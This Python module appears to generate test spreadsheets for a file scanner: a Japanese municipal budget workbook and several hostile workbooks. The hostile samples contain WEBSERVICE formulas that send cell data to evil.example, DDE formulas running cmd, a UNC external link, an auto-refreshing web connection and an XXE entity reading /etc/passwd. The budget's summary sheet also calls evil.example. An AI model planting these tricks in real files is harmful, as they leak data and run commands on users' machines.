"""予算.xlsm: a budget workbook with a macro, formulas, a chart; and hostile workbooks."""
from sampledocs import raw
from sampledocs.word import HEAD, PACKAGE_REL, PACKAGE_TYPE, properties, rels, types

S = ('xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
     'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"')
SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml."
ITEMS = [("総務費", 1520400, 1488000), ("民生費", 6203500, 6011200), ("衛生費", 1204800, 1230100),
         ("土木費", 2010300, 1995500), ("消防費", 640200, 631900), ("教育費", 3105700, 2980400)]


def escape(text):
    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")


class Strings:
    """The shared strings, numbered as they come."""

    def __init__(self):
        self.texts = []

    def cell(self, ref, text, style=0):
        if text not in self.texts:
            self.texts.append(text)
        return f'<c r="{ref}" s="{style}" t="s"><v>{self.texts.index(text)}</v></c>'

    def part(self):
        items = "".join(f"<si><t>{escape(t)}</t></si>" for t in self.texts)
        n = len(self.texts)
        return HEAD + f'<sst {S} count="{n}" uniqueCount="{n}">{items}</sst>'


def number(ref, value, style=0):
    return f'<c r="{ref}" s="{style}"><v>{value}</v></c>'


def formula(ref, text, value, style=0, kind=""):
    kind = f' t="{kind}"' if kind else ""
    return f'<c r="{ref}" s="{style}"{kind}><f>{escape(text)}</f><v>{value}</v></c>'


STYLES = HEAD + f"""<styleSheet {S}><numFmts count="1">
<numFmt numFmtId="164" formatCode="#,##0;[Red]△#,##0"/></numFmts>
<fonts count="3"><font><sz val="11"/><name val="游ゴシック"/><family val="3"/>
<charset val="128"/></font><font><b/><sz val="14"/><color rgb="FF1F3864"/>
<name val="游ゴシック"/></font><font><b/><sz val="11"/><color rgb="FFFFFFFF"/>
<name val="游ゴシック"/></font></fonts><fills count="3"><fill><patternFill patternType="none"/>
</fill><fill><patternFill patternType="gray125"/></fill><fill><patternFill patternType="solid">
<fgColor rgb="FF1F3864"/><bgColor indexed="64"/></patternFill></fill></fills>
<borders count="2"><border><left/><right/><top/><bottom/><diagonal/></border>
<border><left style="thin"><color auto="1"/></left><right style="thin"><color auto="1"/></right>
<top style="thin"><color auto="1"/></top><bottom style="thin"><color auto="1"/></bottom>
<diagonal/></border></borders><cellStyleXfs count="1">
<xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs><cellXfs count="6">
<xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>
<xf numFmtId="0" fontId="1" fillId="0" borderId="0" xfId="0" applyFont="1"/>
<xf numFmtId="0" fontId="2" fillId="2" borderId="1" xfId="0" applyFont="1" applyFill="1"/>
<xf numFmtId="164" fontId="0" fillId="0" borderId="1" xfId="0" applyNumberFormat="1"/>
<xf numFmtId="14" fontId="0" fillId="0" borderId="1" xfId="0" applyNumberFormat="1"/>
<xf numFmtId="0" fontId="0" fillId="0" borderId="1" xfId="0" applyBorder="1"/></cellXfs>
<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles>
<dxfs count="1"><dxf><font><color rgb="FF9C0006"/></font><fill><patternFill>
<bgColor rgb="FFFFC7CE"/></patternFill></fill></dxf></dxfs></styleSheet>"""


def expenses(st):
    rows = '<row r="1">' + st.cell("A1", "令和8年度 歳出予算(単位:千円)", 1) + "</row>"
    rows += '<row r="3">' + "".join(st.cell(c + "3", t, 2) for c, t in zip(
        "ABCD", ("款", "本年度", "前年度", "比較"))) + "</row>"
    for i, (name, now, before) in enumerate(ITEMS, 4):
        rows += (f'<row r="{i}">' + st.cell(f"A{i}", name, 5) + number(f"B{i}", now, 3)
                 + number(f"C{i}", before, 3) + formula(f"D{i}", f"B{i}-C{i}", now - before, 3)
                 + "</row>")
    total = [sum(x[k] for x in ITEMS) for k in (1, 2)]
    rows += ('<row r="10">' + st.cell("A10", "歳出合計", 2)
             + formula("B10", "SUM(B4:B9)", total[0], 3)
             + formula("C10", "SUM(C4:C9)", total[1], 3)
             + formula("D10", "B10-C10", total[0] - total[1], 3) + "</row>")
    rows += ('<row r="12">' + st.cell("A12", "予備費の率", 5) + number("B12", "0.01", 5)
             + formula("C12", "ROUND(B10*予備費率,0)", round(total[0] * 0.01), 3) + "</row>")
    rows += ('<row r="13" hidden="1">' + st.cell("A13", "隠した行の控え", 5) + number("B13", 77, 3)
             + "</row>")
    return HEAD + (f'<worksheet {S}><sheetPr codeName="Sheet1"/><dimension ref="A1:D13"/>'
                   '<sheetViews><sheetView tabSelected="1" workbookViewId="0"><pane ySplit="3" '
                   'topLeftCell="A4" activePane="bottomLeft" state="frozen"/></sheetView>'
                   '</sheetViews><sheetFormatPr defaultRowHeight="18"/><cols><col min="1" max="1" '
                   'width="20" customWidth="1"/><col min="2" max="4" width="16" customWidth="1"/>'
                   f'</cols><sheetData>{rows}</sheetData><mergeCells count="1"><mergeCell '
                   'ref="A1:D1"/></mergeCells><conditionalFormatting sqref="D4:D10"><cfRule '
                   'type="cellIs" dxfId="0" priority="1" operator="lessThan"><formula>0</formula>'
                   '</cfRule></conditionalFormatting><dataValidations count="1"><dataValidation '
                   'type="decimal" allowBlank="1" showErrorMessage="1" sqref="B12">'
                   "<formula1>0</formula1><formula2>0.05</formula2></dataValidation>"
                   '</dataValidations><hyperlinks><hyperlink ref="A10" location="集計!A1" '
                   'display="集計へ"/></hyperlinks><pageMargins left="0.7" right="0.7" top="0.75" '
                   'bottom="0.75" header="0.3" footer="0.3"/><pageSetup paperSize="9" '
                   'orientation="portrait" r:id="rId2"/><headerFooter><oddHeader>&amp;R機密性2'
                   "</oddHeader></headerFooter><drawing r:id=\"rId1\"/>"
                   '<legacyDrawing r:id="rId3"/></worksheet>')


def summary(st):
    share = [x[1] / sum(y[1] for y in ITEMS) for x in ITEMS]
    rows = '<row r="1">' + st.cell("A1", "款", 2) + st.cell("B1", "構成比", 2) \
        + st.cell("C1", "更新日", 2) + "</row>"
    for i, (name, _, _) in enumerate(ITEMS, 2):
        rows += (f'<row r="{i}">' + formula(f"A{i}", f"歳出!A{i + 2}", name, 5, "str")
                 + formula(f"B{i}", f"歳出!B{i + 2}/歳出!$B$10", f"{share[i - 2]:.6f}", 5)
                 + number(f"C{i}", 46113, 4) + "</row>")
    rows += ('<row r="9">' + st.cell("A9", "参考:外部から取得", 5)
             + formula("B9", 'WEBSERVICE("http://evil.example/rate")', 3, 5) + "</row>")
    return HEAD + (f'<worksheet {S}><dimension ref="A1:C9"/><cols><col min="1" max="3" width="16" '
                   f'customWidth="1"/></cols><sheetData>{rows}</sheetData>'
                   '<tableParts count="1"><tablePart r:id="rId1"/></tableParts></worksheet>')


def working(st):
    rows = '<row r="1">' + st.cell("A1", "査定前の要求額(公表しない)") \
        + number("B1", 9876543) + "</row>"
    return HEAD + f'<worksheet {S}><dimension ref="A1:B1"/><sheetData>{rows}</sheetData>' \
                  "</worksheet>"


TABLE = HEAD + (f'<table {S} id="1" name="集計表" displayName="集計表" ref="A1:C7" '
                'totalsRowShown="0"><autoFilter ref="A1:C7"/><tableColumns count="3">'
                '<tableColumn id="1" name="款"/><tableColumn id="2" name="構成比"/>'
                '<tableColumn id="3" name="更新日"/></tableColumns><tableStyleInfo '
                'name="TableStyleMedium2" showRowStripes="1"/></table>')


def chart():
    names = "".join(f'<c:pt idx="{i}"><c:v>{x[0]}</c:v></c:pt>' for i, x in enumerate(ITEMS))
    values = "".join(f'<c:pt idx="{i}"><c:v>{x[1]}</c:v></c:pt>' for i, x in enumerate(ITEMS))
    n = len(ITEMS)
    return HEAD + (
        '<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" '
        'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><c:chart><c:title><c:tx>'
        "<c:rich><a:bodyPr/><a:p><a:r><a:t>款別歳出</a:t></a:r></a:p></c:rich></c:tx>"
        '<c:overlay val="0"/></c:title><c:autoTitleDeleted val="0"/><c:plotArea><c:layout/>'
        '<c:barChart><c:barDir val="bar"/><c:grouping val="clustered"/><c:varyColors val="0"/>'
        '<c:ser><c:idx val="0"/><c:order val="0"/><c:tx><c:strRef><c:f>歳出!$B$3</c:f>'
        '<c:strCache><c:ptCount val="1"/><c:pt idx="0"><c:v>本年度</c:v></c:pt></c:strCache>'
        '</c:strRef></c:tx><c:cat><c:strRef><c:f>歳出!$A$4:$A$9</c:f><c:strCache>'
        f'<c:ptCount val="{n}"/>{names}</c:strCache></c:strRef></c:cat><c:val><c:numRef>'
        "<c:f>歳出!$B$4:$B$9</c:f><c:numCache><c:formatCode>#,##0</c:formatCode>"
        f'<c:ptCount val="{n}"/>{values}</c:numCache></c:numRef></c:val></c:ser>'
        '<c:axId val="111"/><c:axId val="112"/></c:barChart><c:catAx><c:axId val="111"/>'
        '<c:scaling><c:orientation val="maxMin"/></c:scaling><c:delete val="0"/>'
        '<c:axPos val="l"/><c:crossAx val="112"/></c:catAx><c:valAx><c:axId val="112"/>'
        '<c:scaling><c:orientation val="minMax"/></c:scaling><c:delete val="0"/>'
        '<c:axPos val="b"/><c:crossAx val="111"/></c:valAx></c:plotArea><c:plotVisOnly val="1"/>'
        "</c:chart></c:chartSpace>")


DRAWING = HEAD + (
    '<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><xdr:twoCellAnchor><xdr:from>'
    "<xdr:col>5</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>2</xdr:row><xdr:rowOff>0</xdr:rowOff>"
    "</xdr:from><xdr:to><xdr:col>13</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>18</xdr:row>"
    '<xdr:rowOff>0</xdr:rowOff></xdr:to><xdr:graphicFrame macro="BudgetMacro"><xdr:nvGraphicFramePr>'
    '<xdr:cNvPr id="2" name="グラフ 1"/><xdr:cNvGraphicFramePr/></xdr:nvGraphicFramePr><xdr:xfrm>'
    '<a:off x="0" y="0"/><a:ext cx="0" cy="0"/></xdr:xfrm><a:graphic><a:graphicData '
    'uri="http://schemas.openxmlformats.org/drawingml/2006/chart"><c:chart '
    'xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/>'
    "</a:graphicData></a:graphic></xdr:graphicFrame><xdr:clientData/></xdr:twoCellAnchor>"
    "</xdr:wsDr>")
COMMENTS = HEAD + (f"<comments {S}><authors><author>財政課担当者名</author></authors><commentList>"
                   '<comment ref="B7" authorId="0"><text><r><t>橋りょう補修を含む</t></r></text>'
                   "</comment></commentList></comments>")
VML = ('<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:'
       'office" xmlns:x="urn:schemas-microsoft-com:office:excel"><v:shape id="_x0000_s1025" '
       'type="#_x0000_t202" style="visibility:hidden"><x:ClientData ObjectType="Note">'
       "<x:Row>6</x:Row><x:Column>1</x:Column></x:ClientData></v:shape></xml>")


def budget():
    """The parts of 予算.xlsm."""
    st = Strings()
    core, app = properties("令和8年度予算", "財政課担当者名")
    sheets = [expenses(st), summary(st), working(st)]
    names = ('<definedName name="Auto_Open">歳出!$A$1</definedName>'
             '<definedName name="予備費率">歳出!$B$12</definedName>'
             '<definedName name="_xlnm.Print_Area" localSheetId="0">歳出!$A$1:$N$18</definedName>')
    main = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    return {
        "[Content_Types].xml": types(
            [("xl/workbook.xml", main), ("xl/styles.xml", SHEET_TYPE + "styles+xml"),
             ("xl/sharedStrings.xml", SHEET_TYPE + "sharedStrings+xml"),
             ("xl/tables/table1.xml", SHEET_TYPE + "table+xml"),
             ("xl/comments1.xml", SHEET_TYPE + "comments+xml"),
             ("xl/charts/chart1.xml",
              "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"),
             ("xl/drawings/drawing1.xml",
              "application/vnd.openxmlformats-officedocument.drawing+xml"),
             ("docProps/core.xml", PACKAGE_TYPE + "core-properties+xml"),
             ("docProps/app.xml", "application/vnd.openxmlformats-officedocument."
                                  "extended-properties+xml")]
            + [(f"xl/worksheets/sheet{i}.xml", SHEET_TYPE + "worksheet+xml") for i in (1, 2, 3)],
            [("bin", "application/vnd.ms-office.vbaProject"),
             ("vml", "application/vnd.openxmlformats-officedocument.vmlDrawing")]),
        "_rels/.rels": rels([("rId1", "officeDocument", "xl/workbook.xml"),
                             ("rId2", PACKAGE_REL + "metadata/core-properties",
                              "docProps/core.xml"),
                             ("rId3", "extended-properties", "docProps/app.xml")]),
        "xl/workbook.xml": HEAD + (
            f'<workbook {S}><workbookPr codeName="ThisWorkbook"/><bookViews><workbookView/>'
            '</bookViews><sheets><sheet name="歳出" sheetId="1" r:id="rId1"/><sheet name="集計" '
            'sheetId="2" r:id="rId2"/><sheet name="作業用" sheetId="3" state="hidden" r:id="rId3"/>'
            f"</sheets><definedNames>{names}</definedNames><calcPr calcId=\"191029\"/></workbook>"),
        "xl/_rels/workbook.xml.rels": rels(
            [(f"rId{i}", "worksheet", f"worksheets/sheet{i}.xml") for i in (1, 2, 3)]
            + [("rId4", "styles", "styles.xml"), ("rId5", "sharedStrings", "sharedStrings.xml"),
               ("rId6", "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                "vbaProject.bin")]),
        "xl/worksheets/sheet1.xml": sheets[0], "xl/worksheets/sheet2.xml": sheets[1],
        "xl/worksheets/sheet3.xml": sheets[2],
        "xl/worksheets/_rels/sheet1.xml.rels": rels([
            ("rId1", "drawing", "../drawings/drawing1.xml"),
            ("rId2", "printerSettings", "../printerSettings/printerSettings1.bin"),
            ("rId3", "vmlDrawing", "../drawings/vmlDrawing1.vml"),
            ("rId4", "comments", "../comments1.xml")]),
        "xl/worksheets/_rels/sheet2.xml.rels": rels([("rId1", "table", "../tables/table1.xml")]),
        "xl/tables/table1.xml": TABLE, "xl/styles.xml": STYLES, "xl/sharedStrings.xml": st.part(),
        "xl/drawings/drawing1.xml": DRAWING, "xl/drawings/vmlDrawing1.vml": VML,
        "xl/drawings/_rels/drawing1.xml.rels": rels([("rId1", "chart", "../charts/chart1.xml")]),
        "xl/charts/chart1.xml": chart(), "xl/comments1.xml": COMMENTS,
        "xl/printerSettings/printerSettings1.bin": "\\\\printer-host\\queue".encode("utf-16-le"),
        "xl/vbaProject.bin": raw.vba_project(b"SEKISHO-SAMPLE-MACRO"),
        "docProps/core.xml": core, "docProps/app.xml": app,
    }


def small(rows, names="", more_rels=(), more_types=(), more_parts=None, tail=""):
    """A workbook with one sheet, for the hostile samples."""
    parts = {
        "[Content_Types].xml": types([("xl/workbook.xml", SHEET_TYPE + "sheet.main+xml"),
                                      ("xl/worksheets/sheet1.xml", SHEET_TYPE + "worksheet+xml")]
                                     + list(more_types)),
        "_rels/.rels": rels([("rId1", "officeDocument", "xl/workbook.xml")]),
        "xl/workbook.xml": HEAD + f'<workbook {S}><sheets><sheet name="Sheet1" sheetId="1" '
                                  f'r:id="rId1"/></sheets>{tail}{names}</workbook>',
        "xl/_rels/workbook.xml.rels": rels([("rId1", "worksheet", "worksheets/sheet1.xml")]
                                           + list(more_rels)),
        "xl/worksheets/sheet1.xml": HEAD + f"<worksheet {S}><sheetData>{rows}</sheetData>"
                                           "</worksheet>",
    }
    parts.update(more_parts or {})
    return parts


def external_link():
    rows = ('<row r="1">' + formula("A1", "[1]Sheet1!A1", 41)
            + formula("B1", 'WEBSERVICE("http://evil.example/"&A1)', 42)
            + formula("C1", "cmd|'/c calc'!A0", 43)
            + formula("D1", 'INDIRECT("[b.xlsx]S!A1")', 44)
            + formula("E1", 'HYPERLINK("http://evil.example/x","押す")', "押す", kind="str")
            + "</row>")
    book = HEAD + (f'<externalLink {S}><externalBook r:id="rId1"><sheetNames><sheetName '
                   'val="Sheet1"/></sheetNames></externalBook></externalLink>')
    dde = HEAD + (f'<externalLink {S}><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems>'
                  '<ddeItem name="A0"/></ddeItems></ddeLink></externalLink>')
    return small(
        rows, "", [("rId2", "externalLink", "externalLinks/externalLink1.xml"),
                   ("rId3", "externalLink", "externalLinks/externalLink2.xml"),
                   ("rId4", "connections", "connections.xml")],
        [(f"xl/externalLinks/externalLink{i}.xml", SHEET_TYPE + "externalLink+xml")
         for i in (1, 2)] + [("xl/connections.xml", SHEET_TYPE + "connections+xml")],
        {"xl/externalLinks/externalLink1.xml": book, "xl/externalLinks/externalLink2.xml": dde,
         "xl/externalLinks/_rels/externalLink1.xml.rels": rels([
             ("rId1", "externalLinkPath", "file:///\\\\evil.example\\share\\b.xlsx", "External")]),
         "xl/connections.xml": HEAD + f'<connections {S}><connection id="1" name="c" type="4" '
                                      'refreshOnLoad="1"><webPr url="http://evil.example/q"/>'
                                      "</connection></connections>"},
        '<externalReferences><externalReference r:id="rId2"/><externalReference r:id="rId3"/>'
        "</externalReferences>")


def doctype():
    parts = small('<row r="1"><c r="A1" t="inlineStr"><is><t>&x;</t></is></c></row>')
    sheet = parts["xl/worksheets/sheet1.xml"]
    parts["xl/worksheets/sheet1.xml"] = sheet.replace(
        HEAD, HEAD + '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>')
    return parts
